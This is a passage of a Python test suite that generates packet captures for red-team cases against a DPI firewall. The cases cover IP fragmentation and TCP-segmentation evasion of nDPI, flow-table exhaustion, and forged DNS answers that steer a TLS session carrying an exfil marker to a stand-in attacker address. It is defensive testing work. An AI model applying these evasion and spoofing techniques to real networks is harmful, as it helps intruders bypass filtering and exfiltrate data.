def frag_emit(cap, c, s, frags, order=None, gap=200):
    """Emit IP fragments (from fragments()) in the given order."""
    for i in (order or range(len(frags))):
        cap.emit(l2(c, s) / frags[i], gap)


def frag_session(cap, n, c, cport, s, sni, cutfn, order=None, before=None, marker=None,
                 mutate=None):
    """A TLS session whose every client data segment (the ClientHello, then CCS, Finished
    and an application record in one segment) is cut into IP fragments at
    cutfn(len of the IP payload), emitted in `order`; before(i) runs ahead of the i-th
    such segment. The server's side and the TCP handshake are unfragmented. The marker
    sits in the hello's session id and at the start of the application record. The hello
    carries a 1000-byte padding extension and the record 1200 bytes, so that fragments
    are large enough to hold the marker whole."""
    marker = marker or leak(n)
    t = ETcp(cap, c, cport, s, 443, isn=0x49000 + cport % 1000, rtt_us=20000)
    t.handshake()
    ipc = IPv6 if ":" in c else IP
    segs = [hello(n, sni=sni, sid=sid32(marker), extra=[ext(21, b"\x00" * 1000)]),
            CCS + tls_appdata(n + "fin", 53) + marked_record(marker, n, 1200)]
    for i, data in enumerate(segs):
        if before:
            before(i)
        pkt = ipc(src=c, dst=s) / TCP(sport=cport, dport=443, flags="PA", seq=t.cseq, ack=t.sseq,
                                      window=64240) / Raw(data)
        frags = fragments(pkt, cutfn(20 + len(data)), ident=0x4b00 + i)
        frag_emit(cap, c, s, mutate(i, frags) if mutate else frags, order)
        t.cseq += len(data)
        t.ack(False)
        if i == 0:
            t.data(False, server_hello_flight(n))
    t.data(False, tls_appdata(n + "resp", 400))
    t.close()
    return t


def seventeen(total):
    """16 cuts: 17 fragments, the first with the whole TCP header (24 bytes), the next
    15 of equal size (a multiple of 8), the last the rest."""
    step = max(8, (total - 25) // 16 // 8 * 8)
    cuts = [24 + step * i for i in range(16)]
    assert cuts[-1] < total
    return cuts


@case
def case_frag4_many_social(n):
    """Office: the www.facebook.com ClientHello in one TCP segment cut into 17 IPv4
    fragments (24 bytes, then equal ones), and so is the client's next segment (CCS,
    Finished, a record). Linux reassembles any number of fragments
    within ipfrag_high_thresh (64 fragments and more: a 64 KB datagram at MTU 1500 has
    45), so the server reads the hello and serves Facebook. aduana holds at most
    FRAG_MAX_FRAGS = 16 per datagram: the 17th is FRAG_TOO_MANY, an exception:fragment
    that the office allows, and all 17 fragments go out unjudged (judge_frag). Must be
    dropped: the office blocks social whatever the packetisation."""
    cap = Capture()
    frag_session(cap, n, O1, 49001, SOC, FB, seventeen)
    return cap, {"leak": [leak(n)]}


@case
def case_frag6_many_social(n):
    """The same over IPv6 (17 fragments; RFC 8200 puts no bound on their number and Linux
    ip6_frag_queue none but memory)."""
    cap = Capture()
    frag_session(cap, n, O6, 49002, SOC6, FB, seventeen)
    return cap, {"leak": [leak(n)]}


@case
def case_frag4_short_social(n):
    """Office, IPv4: the www.facebook.com ClientHello in two fragments, the first carrying
    only 16 bytes of the 20-byte TCP header (RFC 1858's tiny fragment), the second sent
    first. Linux's IPv4 reassembly takes such a first fragment (no minimum size for local
    delivery), so the server reads the hello. aduana calls the datagram FRAG_SHORT, an
    exception:fragment the office allows, and releases both fragments unjudged. Must be
    dropped as social (or refused): the strict zone's drop is the right answer here too."""
    cap = Capture()
    frag_session(cap, n, O1, 49003, SOC, FB, lambda total: [16], order=[1, 0])
    return cap, {"leak": [leak(n)]}


@case
def case_frag_full_social(n):
    """Office: the host first sends 32 first fragments of UDP datagrams (distinct IP ids,
    more-fragments set, never completed) to the same server, which fills the worker's 32
    reassembly slots (FRAG_SLOTS, no eviction for FRAG_TIMEOUT_NS = 2 s). 50 ms later the
    www.facebook.com ClientHello in 3 IPv4 fragments finds no slot: FRAG_FULL, an
    exception:fragment the office allows, each fragment forwarded alone. The server has
    room (Linux keeps 4 MB of fragment queues) and reads the hello. Must be dropped."""
    cap = Capture()

    def pin(k):
        for i in range(32):
            pkt = IP(src=O1, dst=SOC) / UDP(sport=30000 + i, dport=9) / Raw(prand("%s-pin%d" % (n, i), 256))
            frag_emit(cap, O1, SOC, fragments(pkt, [128], ident=0x7000 + 64 * k + i)[:1], gap=100)
    frag_session(cap, n, O1, 49004, SOC, FB, three_frags, before=pin)
    return cap, {"leak": [leak(n)]}


@case
def case_frag4_sixteen_ok(n):
    """Must-allow twin of frag4_many_social: an office ClientHello for www.example.org
    (no class) in 16 IPv4 fragments (the most aduana reassembles): joined, read, allowed.
    A fix for the 17-fragment case must still read and pass this (and, ideally, more)."""
    cap = Capture()

    def sixteen(total):
        step = max(8, (total - 25) // 15 // 8 * 8)
        return [24 + step * i for i in range(15)]
    frag_session(cap, n, O1, 49005, SOC, "www.example.org", sixteen, marker=passm(n))
    return cap, {"pass": [passm(n)]}


def three_frags(total):
    """2 cuts: 3 fragments, the first with the TCP header and a little more."""
    step = (total - 24) // 3 // 8 * 8
    return [24 + step, 24 + 2 * step]


@case
def case_frag4_dup_ok(n):
    """Must allow (thirteenth session's M5, a false block before): e2m TLS whose
    every client segment comes in 3 IPv4 fragments, the middle one twice with the same
    bytes (a frame the network sent twice). Linux drops the duplicate alone
    (inet_frag_queue_insert: IPFRAG_DUP) and rebuilds the datagram; so must we."""
    cap = Capture()
    frag_session(cap, n, S1, 42192, E2M, E2M_NAME, three_frags, order=[0, 1, 1, 2],
                 marker=passm(n))
    return cap, {"pass": [passm(n)]}


@case
def case_frag4_dup_diff(n):
    """Office: the www.example.org hello in 3 IPv4 fragments, the middle one twice, the
    second copy with other bytes (its last byte flipped). Linux keeps the first copy;
    other hosts may keep the second: two readings, refused whatever the zone does."""
    cap = Capture()

    def mutate(i, frags):
        f = frags[1].copy()
        raw = bytearray(bytes(f[Raw].load))
        raw[-1] ^= 0x5a
        f[Raw].load = bytes(raw)
        return frags[:2] + [f] + frags[2:]
    frag_session(cap, n, O1, 42193, SOC, "www.example.org", three_frags, order=[0, 1, 2, 3],
                 mutate=mutate)
    return cap, {"leak": [leak(n)]}


# --- remote access and proxies whose first messages are cut across TCP segments.
# nDPI 4.2 reads each segment alone (no TCP reassembly for SSH, RDP, VNC, SOCKS), our
# payload signatures (lists/*.sig) too; the server reads a byte stream. Non-standard ports:
# nDPI's port guesses (22, 3389, 5900, 1080) would block at the give-up.

SSH_SRV = b"SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n"
SSH_CLI = b"SSH-2.0-OpenSSH_9.6\r\n"


def ssh_kexinit(seed):
    """An unencrypted SSH binary packet (SSH_MSG_KEXINIT, RFC 4253 7.1)."""
    lists = [b"curve25519-sha256,ext-info-c", b"ssh-ed25519", b"aes128-ctr", b"aes128-ctr",
             b"hmac-sha2-256", b"hmac-sha2-256", b"none", b"none", b"", b""]
    body = b"\x14" + prand(seed + "cookie", 16) + b"".join(struct.pack("!I", len(x)) + x for x in lists) + b"\x00" + b"\x00" * 4
    pad = 8 - (len(body) + 5) % 8
    pad = pad + 8 if pad < 4 else pad
    return struct.pack("!IB", len(body) + pad + 1, pad) + body + b"\x00" * pad


def ssh_session(n, cport, split):
    """Server banner, client banner, KEXINITs, then binary packets with the marker."""
    cap = Capture()
    t = ETcp(cap, O1, cport, SOC, 2222, isn=0x49000 + cport % 1000, rtt_us=20000)
    t.handshake()
    if split:
        t.data(False, SSH_SRV[:7])
        t.data(False, SSH_SRV[7:])
        t.data(True, SSH_CLI[:4])
        t.data(True, SSH_CLI[4:])
    else:
        t.data(False, SSH_SRV)
        t.data(True, SSH_CLI)
    t.data(False, ssh_kexinit(n + "s"))
    t.data(True, ssh_kexinit(n + "c"))
    t.data(True, struct.pack("!I", 300) + leak(n) + prand(n + "enc1", 300 - len(leak(n))))
    t.data(False, struct.pack("!I", 300) + leak(n) + prand(n + "enc2", 300 - len(leak(n))))
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_ra_ssh_split(n):
    """Office: SSH (remote_access) to port 2222, the server's banner in two segments
    (7 bytes, then the rest) and the client's in two (4 bytes "SSH-", then the rest).
    OpenSSH reads the version line from the stream (sshd's and ssh's banner exchange read
    byte by byte up to LF), so the session goes on. nDPI 4.2's SSH dissector wants a
    whole "SSH-" line (8 to 499 bytes) in one packet of each side, and nothing of aduana's
    reads SSH: no class, the office gives up and allows. Must be dropped (remote_access)."""
    return ssh_session(n, 49011, True)


@case
def case_ra_ssh_ctl(n):
    """Control for ra_ssh_split: the same session with each banner in one segment."""
    return ssh_session(n, 49012, False)


RDP_CR = (b"\x03\x00\x00\x2b" + b"\x26\xe0\x00\x00\x00\x00\x00" + b"Cookie: mstshash=admin\r\n"
          + b"\x01\x00\x08\x00\x03\x00\x00\x00")
RDP_CC = b"\x03\x00\x00\x13\x0e\xd0\x00\x00\x12\x34\x00\x02\x1f\x08\x00\x08\x00\x00\x00"


def rdp_session(n, cport, split):
    cap = Capture()
    assert len(RDP_CR) == 0x2b
    t = ETcp(cap, O1, cport, SOC, 13389, isn=0x49000 + cport % 1000, rtt_us=20000)
    t.handshake()
    if split:
        t.data(True, RDP_CR[:7])
        t.data(True, RDP_CR[7:])
    else:
        t.data(True, RDP_CR)
    t.data(False, RDP_CC)
    # TLS (PROTOCOL_SSL | HYBRID) follows the negotiation; CredSSP inside it
    t.data(True, hello(n + "rdp", sni_raw=b""))
    t.data(False, server_hello_flight(n))
    t.data(True, CCS + tls_appdata(n + "fin", 53))
    t.data(True, marked_record(leak(n), n))
    t.data(False, marked_record(leak(n), n + "s"))
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_ra_rdp_split(n):
    """Office: RDP (remote_access) to port 13389, the X.224 Connection Request with its
    mstshash cookie in two segments (7 bytes: the TPKT header and X.224 fixed part, then
    the rest). Windows' TermService reads TPKT from the stream (the length in the TPKT
    header says how much more to wait for). nDPI 4.2 wants the TPKT length equal to the
    packet's payload length in one packet: no class, the office gives up and allows.
    Must be dropped (remote_access)."""
    return rdp_session(n, 49013, True)


@case
def case_ra_rdp_ctl(n):
    """Control for ra_rdp_split: the Connection Request in one segment."""
    return rdp_session(n, 49014, False)


def vnc_session(n, cport, split):
    cap = Capture()
    t = ETcp(cap, O1, cport, SOC, 15900, isn=0x49000 + cport % 1000, rtt_us=20000)
    t.handshake()
    t.data(False, b"RFB 003.008\n")
    if split:
        t.data(True, b"RFB 003.")
        t.data(True, b"008\n")
    else:
        t.data(True, b"RFB 003.008\n")
    t.data(False, b"\x01\x02")                       # one security type: VNC authentication
    t.data(True, b"\x02")
    t.data(False, prand(n + "chal", 16))
    t.data(True, prand(n + "resp", 16))
    t.data(False, b"\x00\x00\x00\x00")               # SecurityResult OK
    t.data(True, b"\x01")                            # ClientInit: shared
    t.data(False, struct.pack("!HH", 1920, 1080) + prand(n + "pf", 16) + struct.pack("!I", len(leak(n))) + leak(n))
    t.data(True, b"\x03\x00" + struct.pack("!HHHH", 0, 0, 1920, 1080) + leak(n))
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_ra_vnc_split(n):
    """Office: VNC (remote_access, RFB 3.8, RFC 6143) to port 15900: the server's
    ProtocolVersion whole, the client's echo in two segments ("RFB 003." and "008\\n").
    A VNC server reads exactly 12 bytes from the stream. nDPI 4.2's VNC dissector wants
    12-byte "RFB 003.xxx\\n" packets from both sides: no class, give-up, allowed. Must be
    dropped (remote_access)."""
    return vnc_session(n, 49015, True)


@case
def case_ra_vnc_ctl(n):
    """Control for ra_vnc_split: both ProtocolVersion messages whole."""
    return vnc_session(n, 49016, False)


def socks5_session(n, cport, split):
    cap = Capture()
    t = ETcp(cap, O1, cport, SOC, 11080, isn=0x49000 + cport % 1000, rtt_us=20000)
    t.handshake()
    if split:
        t.data(True, b"\x05")
        t.data(True, b"\x01\x00")
    else:
        t.data(True, b"\x05\x01\x00")
    t.data(False, b"\x05\x00")
    t.data(True, b"\x05\x01\x00\x03" + bytes([len(VK)]) + VK.encode() + b"\x01\xbb")
    t.data(False, b"\x05\x00\x00\x01" + bytes([203, 0, 113, 71]) + b"\x01\xbb")
    t.data(True, hello(n, sni=VK, sid=sid32(leak(n))))
    t.data(False, server_hello_flight(n))
    t.data(True, CCS + tls_appdata(n + "fin", 53))
    t.data(True, marked_record(leak(n), n))
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_px_socks5_split(n):
    """Office: a SOCKS5 proxy (RFC 1928) on port 11080, the client's method greeting
    05 01 00 in two segments (05, then 01 00), then CONNECT m.vk.com:443 and the tunnelled
    TLS. Dante, 3proxy and ssh -D read the greeting from the stream. nDPI 4.2's SOCKS
    dissector and our proxy.sig line (SOCKS5 out len=u8@1+2) each read one packet: the
    1-byte greeting has no length byte, "01 00" no version; nothing reads the CONNECT
    request or the tunnelled hello (the first-bytes slot saw no TLS start). No class, the
    office allows at the give-up. Must be dropped (proxy; social by the tunnelled name)."""
    return socks5_session(n, 49017, True)


@case
def case_px_socks5_ctl(n):
    """Control for px_socks5_split: the greeting in one segment (proxy.sig matches)."""
    return socks5_session(n, 49018, False)


# --- HTTP/1.1 keep-alive past the 4-payload window

@case
def case_app_http_ka_late_vk(n):
    """Office HTTP on port 80: four requests for www.example.org on one kept-alive
    connection, each answered, then a fifth for m.vk.com (a virtual host at the same CDN
    address serves each request by its own Host, RFC 9112 3.2). aduana reads request
    heads on the first 4 client payloads only (cls_more_host); the flow is allowed
    (default) and no longer classified, so the fifth request and its answer pass. Must
    be dropped as social from the fifth request on (docs/classification.md calls it a
    known gap; a browser's connection pool reuses a CDN connection exactly so)."""
    cap = Capture()
    t = ETcp(cap, O1, 49021, SOC, 80, isn=0x49021, rtt_us=20000)
    t.handshake()
    for i in range(4):
        t.data(True, b"GET /%d HTTP/1.1\r\nHost: www.example.org\r\nUser-Agent: curl/8.5.0\r\nAccept: */*\r\n\r\n" % i)
        body = prand("%s-b%d" % (n, i), 200)
        t.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\nContent-Type: text/plain\r\n\r\n" % len(body) + body)
    t.data(True, b"GET /feed HTTP/1.1\r\nHost: m.vk.com\r\nX-Mark: " + leak(n) + b"\r\n\r\n")
    body = leak(n) + prand(n + "vk", 200)
    t.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_app_http_ka_late_ok(n):
    """Must-allow twin of app_http_ka_late_vk: five requests for www.example.org on one
    connection. A fix that reads every request head must keep this flow allowed."""
    cap = Capture()
    t = ETcp(cap, O1, 49022, SOC, 80, isn=0x49022, rtt_us=20000)
    t.handshake()
    for i in range(5):
        mark = passm(n) if i == 4 else b"x"
        t.data(True, b"GET /%d HTTP/1.1\r\nHost: www.example.org\r\nX-Mark: %s\r\n\r\n" % (i, mark))
        body = (passm(n) if i == 4 else b"") + prand("%s-b%d" % (n, i), 200)
        t.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
    t.close()
    return cap, {"pass": [passm(n)]}


# --- QUIC over IPv6

@case
def case_quic6_chaos_fb(n):
    """Office, IPv6 (2001:db8:20::/48): the chaos-protected www.facebook.com Initial of
    quic_chaos_fb, to UDP 443 of an IPv6 server. The reader must run over IPv6 as over
    IPv4. Must be dropped (social)."""
    cap = Capture()
    dcid, scid = _q_ids(n)
    m = quic_hs_hello(n, FB)
    cut = m.find(FB.encode()) + 4
    frames = quic_crypto_frame(cut, m[cut:]) + b"\x01" + quic_crypto_frame(0, m[:cut])
    quic_flow(cap, n, 49031, [quic_initial(dcid, scid, 0, frames)], dst=SOC6, src=O6)
    return cap, {"leak": [leak(n)]}


# --- the flow table filled by one office host's UDP flows

@case
def case_ft_full_udp_social(n, flows=9000):
    """Office: one host sends one UDP datagram to each of 9000 ports of an outside address
    within a second (a port scan, or a game's or WebRTC's candidate checks): each is a new
    UDP flow the office allows (pending, then default), and no UDP flow is evictable
    (flow_is_evictable: dropped flows and unanswered SYNs only), so both workers' tables
    (flows_per_worker = 4096) are full. Then the same host's TLS session with the m.vk.com
    hello: judge_flow_new finds no entry, every packet is judge_untracked with
    exception:flow_table_full, which the office allows, unread. The server serves
    m.vk.com. Must be dropped (social), or refused: a full table is the attacker's doing
    here, and one host should not be able to take every entry. Now a source holds at
    most an eighth of the table: its flows past that are refused (aggregated, no entry),
    the session's SYN among them, and the server's answers open an inbound flow that
    the office drops (default:office)."""
    cap = Capture()
    for i in range(flows):
        udp(cap, O1, 40000, SOC, 10000 + i, prand("%s-u%d" % (n, i % 64), 40), gap=100)
    t = ETcp(cap, O1, 49041, SOC, 443, isn=0x49041, rtt_us=20000)
    t.handshake()
    t.data(True, hello(n, sni=VK, sid=sid32(leak(n))))
    t.data(False, server_hello_flight(n))
    t.data(True, CCS + tls_appdata(n + "fin", 53) + marked_record(leak(n), n))
    t.data(False, tls_appdata(n + "resp", 300))
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_ft_full_other_social(n, flows=9000):
    """ft_full_udp_social with the social session from another office host
    (10.20.1.21): the table full of the first host's flows took the zone's exception for
    a full table, which the office allows, unread. A host under its share now takes
    the entry of a flow of the host over its share, and is read."""
    cap = Capture()
    for i in range(flows):
        udp(cap, O1, 40001, SOC, 10000 + i, prand("%s-u%d" % (n, i % 64), 40), gap=100)
    t = ETcp(cap, "10.20.1.21", 49042, SOC, 443, isn=0x49042, rtt_us=20000)
    t.handshake()
    t.data(True, hello(n, sni=VK, sid=sid32(leak(n))))
    t.data(False, server_hello_flight(n))
    t.data(True, CCS + tls_appdata(n + "fin", 53) + marked_record(leak(n), n))
    t.data(False, tls_appdata(n + "resp", 300))
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_ra_ssh_repack(n):
    """Office: ra_ssh_split with each banner sent repacketised (the review of round 20's
    fix): its first 5 bytes, then bytes 3..12 in one copy that overlaps them, then the
    rest from byte 12 (a stack that coalesces a retransmission with new data; no
    segment but the first starts with "SSH-", so no one segment matches alone). Linux keeps
    the bytes it had and takes the copy's new tail; OpenSSH reads the whole line. The
    first join kept "SSH-2" and took neither the copy's new tail nor what followed it;
    now a copy that brings new bytes adds its tail. Must be dropped (remote_access)."""
    cap = Capture()
    t = ETcp(cap, O1, 49043, SOC, 2222, isn=0x49043, rtt_us=20000)
    t.handshake()
    s0 = t.sseq
    t.raw(False, "PA", SSH_SRV[:5], seq=s0)
    t.raw(False, "PA", SSH_SRV[3:12], seq=s0 + 3)
    t.raw(False, "PA", SSH_SRV[12:], seq=s0 + 12)
    t.sseq = s0 + len(SSH_SRV)
    t.ack(True)
    c0 = t.cseq
    t.raw(True, "PA", SSH_CLI[:5], seq=c0)
    t.raw(True, "PA", SSH_CLI[3:12], seq=c0 + 3)
    t.raw(True, "PA", SSH_CLI[12:], seq=c0 + 12)
    t.cseq = c0 + len(SSH_CLI)
    t.ack(False)
    t.data(False, ssh_kexinit(n + "s"))
    t.data(True, ssh_kexinit(n + "c"))
    t.data(True, struct.pack("!I", 300) + leak(n) + prand(n + "enc1", 300 - len(leak(n))))
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_office_tls12_pending_ok(n):
    """Must pass (the review of round 20's fix): an office TLS 1.2 session still
    undecided when the server answers (an allowing default waits for nDPI to finish,
    the certificate), then the client's key exchange in a plaintext handshake record,
    ChangeCipherSpec and Finished. A plaintext handshake record from the client is
    refused only while the server has not shown whether it asks for another hello (on
    this capture the flow is decided at the server's flight, so it passed before the
    fix too: a guard, not a find)."""
    cap = Capture()
    t = ETcp(cap, O1, 49044, SOC, 443, isn=0x49044, rtt_us=20000)
    t.handshake()
    t.data(True, hello(n, sni="www.example.org"))
    t.data(False, server_hello_flight(n))
    cke = b"\x10" + struct.pack("!I", 33)[1:] + b"\x20" + prand(n + "cke", 32)
    t.data(True, record(22, cke, 0x0303) + CCS + record(22, prand(n + "fin", 40), 0x0303))
    t.data(False, CCS + record(22, prand(n + "sfin", 40), 0x0303))
    t.data(True, marked_record(passm(n), n))
    t.data(False, tls_appdata(n + "resp", 300))
    t.close()
    return cap, {"pass": [passm(n)]}


# ---------------------------------------------------------------------------
# Red team round 21 (strict zone e2m, the fourteenth session's first helper).
#   - DNS learning trusts the first answer that matches a remembered query:
#     an accomplice outside that forges the resolver's answer (the inside
#     host chose the ID and port) teaches an address of its own for the e2m
#     name, and the flow there is allowed as e2m (dns_forged_learn);
#   - IPv6 neighbour discovery (ICMPv6 133..137) is forwarded unjudged whatever
#     its addresses: a carrier of any bytes to and from any global address
#     (nd_exfil, nd_inbound);
#   - the header log (hlog.h) guards TLS flows only: SMTP and DNS over TCP take
#     no log, so a command line / message lost after us and sent again with
#     other bytes passes as a retransmission, unread (smtp_loss_rewrite,
#     dnstcp_loss_rewrite);
#   - a TLS segment with more than 256 record headers is read with its last
#     headers unlogged; empty application-data records (5 bytes) put 292 in one
#     ordinary 1460-byte segment (hlog_empty_rewrite);
#   - (not a run.sh case, see dhcp_unzoned_pcap at the end) UDP 68 -> 67 from a
#     source in no zone passes to any destination as a "link service".
# Honest twins: *_ok; control: hlog_empty_rw_ctl.
# Ports 43001-43999.

ATK = "198.18.0.66"          # the attacker's server (no endpoint)
ATK_OK = "198.51.100.200"    # an address the resolver genuinely gives for e2m (outside the /28)


def forged_dns_answer(qid, name, addr, ttl=300):
    return bytes(DNS(id=qid, qr=1, rd=1, ra=1, qd=DNSQR(qname=name, qtype="A"),
                     an=DNSRR(rrname=name, type="A", ttl=ttl, rdata=addr)))


def dns_learn_flow(cap, cport, qid, answers):
    """A query for the e2m name from the inside host, then the given answers
    (in that order) from the resolver's address on the outside port."""
    q = bytes(DNS(id=qid, rd=1, qd=DNSQR(qname=E2M_NAME, qtype="A")))
    udp(cap, S1, cport, RESOLVER, 53, q)
    for a in answers:
        udp(cap, RESOLVER, 53, S1, cport, a, gap=2000)
    return q


@case
def case_dns_forged_learn(n):
    """An accomplice outside forges the resolver's answer (ID and port told by the inside
    host, which chose them): e2m.customs.example is 198.18.0.66, the attacker's server. It
    arrives first; the resolver's true answer (198.51.100.5) follows. It was ignored as a
    second answer, and a TLS session with the e2m name to the attacker's address passed,
    with a record holding the exfil marker. Now two answers that differ take back what
    either taught (judge_learn_conflict)."""
    cap = Capture()
    dns_learn_flow(cap, 43001, 0x2201, [forged_dns_answer(0x2201, E2M_NAME, ATK),
                                    forged_dns_answer(0x2201, E2M_NAME, E2M)])
    cap.idle(0.05)
    tls_flow(cap, S1, 43002, ATK, 2201, n, send_whole(hello(n)), leak(n))
    return cap, {"leak": [leak(n)]}


def dns_query_unheard(cap, cport, qid, ipkw):
    """An inside host's query for the e2m name over UDP that the resolver never gets
    (the IP header's kwargs ipkw: an option a router or the resolver drops), its UDP
    checksum right for the resolver's address, then the accomplice's forged answer: the
    only one that ever comes."""
    q = bytes(DNS(id=qid, rd=1, qd=DNSQR(qname=E2M_NAME, qtype="A")))
    good = IP(bytes(IP(src=S1, dst=RESOLVER) / UDP(sport=cport, dport=53) / Raw(q)))[UDP].chksum
    pkt = IP(src=S1, dst=RESOLVER, **ipkw) / UDP(sport=cport, dport=53, chksum=good) / Raw(q)
    cap.emit(l2(S1, RESOLVER) / pkt, 10000)
    udp(cap, RESOLVER, 53, S1, cport, forged_dns_answer(qid, E2M_NAME, ATK), gap=2000)
    cap.idle(0.05)


@case
def case_dns_query_lsrr_learn(n):
    """Red team, the seventeenth session: the query carries a loose source route (IPv4
    option 131), which Linux drops by default (accept_source_route 0): the resolver never
    answers, and the accomplice's forged answer taught the e2m name 198.18.0.66 (the
    query was vetted for TTL and checksum only). TLS with the e2m name there must drop."""
    cap = Capture()
    dns_query_unheard(cap, 43601, 0x3601, {"options": [IPOption_LSRR(routers=["192.0.2.1"])]})
    tls_flow(cap, S1, 43602, ATK, 3601, n, send_whole(hello(n)), leak(n))
    return cap, {"leak": [leak(n)]}


@case
def case_dns_query_badopt_learn(n):
    """The same with an IPv4 timestamp option whose length runs past the header
    (ip_options_compile refuses it: the packet is dropped)."""
    from scapy.layers.inet import IPOption
    cap = Capture()
    dns_query_unheard(cap, 43603, 0x3603, {"options": [IPOption(b"\x44\x28\x05\x00")]})
    tls_flow(cap, S1, 43604, ATK, 3603, n, send_whole(hello(n)), leak(n))
    return cap, {"leak": [leak(n)]}


def dns_tcp_query_unheard(cap, cport, qid, ipkw):
    """dns_query_unheard over TCP: a handshake with the resolver, the query in a segment
    it never gets (ipkw), the accomplice's forged answer at the resolver's next sequence
    number, the client's ACK of it; the resolver's own ACK still acknowledges its SYN only."""
    q = bytes(DNS(id=qid, rd=1, qd=DNSQR(qname=E2M_NAME, qtype="A")))
    q = struct.pack("!H", len(q)) + q
    t = ETcp(cap, S1, cport, RESOLVER, 53, isn=qid, rtt_us=2000)
    t.handshake()
    qstart = t.cseq
    t.raw(True, "PA", q, ipkw=ipkw)
    t.cseq += len(q)
    a = forged_dns_answer(qid, E2M_NAME, ATK)
    t.send(False, struct.pack("!H", len(a)) + a)
    t.ack(True)
    t.raw(False, "A", seq=t.sseq - len(a) - 2, ack=qstart)
    cap.idle(0.05)


@case
def case_dns_tcp_query_ttl_learn(n):
    """Red team, the seventeenth session: DNS over TCP, the query's segment with TTL 1
    (it expires at the next router), then a forged answer segment. A TCP query was not
    vetted at all: the forgery taught the e2m name 198.18.0.66. Must drop the TLS
    session there."""
    cap = Capture()
    dns_tcp_query_unheard(cap, 43605, 0x3605, {"ttl": 1})
    tls_flow(cap, S1, 43606, ATK, 3605, n, send_whole(hello(n)), leak(n))
    return cap, {"leak": [leak(n)]}


@case
def case_dns_tcp_query_badopt_learn(n):
    """The same with an IPv4 option whose length runs past the header."""
    from scapy.layers.inet import IPOption
    cap = Capture()
    dns_tcp_query_unheard(cap, 43607, 0x3607, {"options": [IPOption(b"\x44\x28\x05\x00")]})
    tls_flow(cap, S1, 43608, ATK, 3607, n, send_whole(hello(n)), leak(n))
    return cap, {"leak": [leak(n)]}


def dns_tcp_conn(cap, cport, qid, mss=None):
    """A client's TCP connection to the resolver (its SYN with MSS mss) and the query for
    the e2m name; returns the connection and the resolver's first answer byte."""
    q = bytes(DNS(id=qid, rd=1, qd=DNSQR(qname=E2M_NAME, qtype="A")))
    q = struct.pack("!H", len(q)) + q
    t = ETcp(cap, S1, cport, RESOLVER, 53, isn=qid, rtt_us=2000)
    if mss:
        t.raw(True, "S", options=[("MSS", mss), ("SAckOK", b""), ("WScale", 7)])
        t.cseq += 1
        t.raw(False, "SA", options=[("MSS", 1460), ("SAckOK", b""), ("WScale", 7)])
        t.sseq += 1
        t.raw(True, "A")
    else:
        t.handshake()
    t.raw(True, "PA", q)
    t.cseq += len(q)
    return t


def dns_tcp_answer(qid, addr):
    a = forged_dns_answer(qid, E2M_NAME, addr)
    return struct.pack("!H", len(a)) + a


@case
def case_dns_tcp_learn_ok(n):
    """Must-allow: over TCP, the resolver's one answer, whole in one segment, teaches the
    e2m name a new address; a session there is allowed."""
    cap = Capture()
    t = dns_tcp_conn(cap, 43611, 0x3611)
    t.send(False, dns_tcp_answer(0x3611, ATK_OK))
    t.ack(True)
    t.close()
    cap.idle(0.05)
    tls_flow(cap, S1, 43612, ATK_OK, 3611, n, send_whole(hello(n)), passm(n))
    return cap, {"pass": [passm(n)]}


@case
def case_dns_tcp_stale_forged(n):
    """Red team, the seventeenth session: on a resolver connection an honest query and
    answer, then the query for the e2m name in a segment that closes the client's window
    (the resolver cannot answer into it); an accomplice's whole forged answer at the
    sequence number of the first answer (old data to the client) with a wrong checksum;
    the client's RST. No client takes the forged copy, and the true answer never comes:
    it taught the e2m name 198.18.0.66. Must drop the TLS session there."""
    cap = Capture()
    qid = 0x3613
    t = ETcp(cap, S1, 43613, RESOLVER, 53, isn=qid, rtt_us=2000)
    t.handshake()
    q1, a1 = dns_pair("api." + E2M_NAME, "A", qid, E2M)
    t.data(True, q1)
    s0 = t.sseq
    t.data(False, a1)
    q2 = bytes(DNS(id=qid + 1, rd=1, qd=DNSQR(qname=E2M_NAME, qtype="A")))
    q2 = struct.pack("!H", len(q2)) + q2
    t.raw(True, "PA", q2, window=0)
    t.cseq += len(q2)
    t.raw(False, "A")
    fake = dns_tcp_answer(qid + 1, ATK)
    assert len(fake) <= len(a1)
    t.raw(False, "PA", fake, seq=s0, tcpkw={"chksum": 0xbeef})
    t.raw(True, "R", seq=t.cseq)
    cap.idle(0.05)
    tls_flow(cap, S1, 43614, ATK, qid, n, send_whole(hello(n)), leak(n))
    return cap, {"leak": [leak(n)]}


def dns_tcp_split_then(cap, n, cport, qid, csum):
    """The client's SYN offers MSS 48: the resolver's true answer comes in 48-byte
    segments (a split answer is not compared); then an accomplice's whole forged answer
    at the same sequence number (old data), its checksum right or not."""
    t = dns_tcp_conn(cap, cport, qid, mss=48)
    s0 = t.sseq
    t.raw(False, "A")
    real = dns_tcp_answer(qid, E2M)
    for i in range(0, len(real), 48):
        t.raw(False, "PA", real[i:i + 48], seq=s0 + i, gap=200)
    t.sseq = s0 + len(real)
    t.raw(True, "A")
    kw = {} if csum else {"tcpkw": {"chksum": 0x1234}}
    t.raw(False, "PA", dns_tcp_answer(qid, ATK), seq=s0, gap=500, **kw)
    t.raw(True, "A")
    cap.idle(0.05)


@case
def case_dns_tcp_mss_split_forged(n):
    """Red team, the seventeenth session: dns_tcp_split_then with a wrong checksum on the
    forged copy: it taught. Must drop the TLS session to the forged address."""
    cap = Capture()
    dns_tcp_split_then(cap, n, 43615, 0x3615, False)
    tls_flow(cap, S1, 43616, ATK, 3615, n, send_whole(hello(n)), leak(n))
    return cap, {"leak": [leak(n)]}


@case
def case_dns_tcp_mss_split_stale(n):
    """The same, the forged copy's checksum right: old data all the same, which the
    client drops as a duplicate. Must drop the TLS session."""
    cap = Capture()
    dns_tcp_split_then(cap, n, 43617, 0x3617, True)
    tls_flow(cap, S1, 43618, ATK, 3617, n, send_whole(hello(n)), leak(n))
    return cap, {"leak": [leak(n)]}


@case
